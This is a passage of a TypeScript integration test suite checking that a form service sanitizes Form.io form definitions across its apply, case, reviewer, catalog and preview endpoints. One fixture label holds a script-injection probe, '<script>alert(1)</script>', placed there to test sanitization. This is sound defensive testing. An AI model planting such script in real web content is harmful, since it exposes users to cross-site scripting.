      const done = await form(applicant, `/catalog/${itemCode}/apply/submit`, {
        subject: subject.code,
        signerName: "李四",
        agreed: "on",
      }).expect(303);
      code = /^\/my\/cases\/(\d{20})\/submitted$/.exec(done.headers.location!)![1]!;
    });

    it("sanitizes the form JSON of the apply, case, task, catalog API and preview renderers", async () => {
      const reviewer = await loginAs(await buildUser({ roles: ["reviewer"], department: "scjgj" }));
      const designer = await loginAs(await buildUser({ roles: ["dept_admin"], department: "scjgj" }));
      const taskId = await taskIdOf(code);
      const sources: [string, Agent | null, string][] = [
        ["apply", applicant, `/catalog/${itemCode}/form.json`],
        ["case", applicant, `/my/cases/${code}/form.json`],
        ["task case form", reviewer, `/tasks/${taskId}/case-form.json`],
        ["forms API, reader", applicant, `/api/forms/${formKey}`],
        ["forms API, reviewer", reviewer, `/api/forms/${formKey}`],
        ["forms API, preview", designer, `/api/forms/${formKey}?view=render`],
        ["catalog API", null, `/api/catalog/${itemCode}`],
      ];
      for (const [where, agent, url] of sources) {
        const res = await (agent ?? request(testApp().app)).get(url).expect(200);
        const definition = (where === "catalog API" ? res.body.data.form.definition : res.body.data.definition) as Record<string, unknown>;
        assertSafeDefinition(definition, where);
        assertFormFormatting(definition, where);
        if (where !== "catalog API")
          assert.equal(res.body.data.title, "<b>表单</b>", `${where}: the title is sent as stored, and shown as text`);
      }
      const preview = await designer.get(`/admin/forms/${formKey}/preview`).expect(200);
      const mount = DomUtils.findOne((e) => "data-form-renderer" in e.attribs, parseDocument(preview.text).children, true);
      assert.equal(
        mount?.attribs["data-form-url"],
        `/api/forms/${formKey}?revision=1&view=render`,
        "the preview renders the sanitized copy",
      );
    });

    it("gives the builder the designer's own text, minus the settings that would widen Form.io's sanitizer, and never changes what is stored", async () => {
      const designer = await loginAs(await buildUser({ roles: ["dept_admin"], department: "scjgj" }));
      const res = await designer.get(`/api/forms/${formKey}`).expect(200);
      const definition = res.body.data.definition;
      assert.equal(definition.settings.sanitizeConfig, undefined);
      assert.equal(definition.globalSettings, undefined);
      const labels: string[] = [];
      eachComponent(definition.components, (c) => typeof c.label === "string" && labels.push(c.label));
      assert.ok(labels.includes("经营场所<script>alert(1)</script><b>（必填）</b>"), "the builder edits what the designer wrote");
      const stored = await getFormRevision(testApp().db, formKey, 1);
      assert.ok(JSON.stringify(stored.definition).includes("<script>alert(1)</script>"), "the stored revision is unchanged");
      assert.ok((stored.definition.settings as Record<string, unknown>).sanitizeConfig, "the stored settings are unchanged");
    });
  });
});
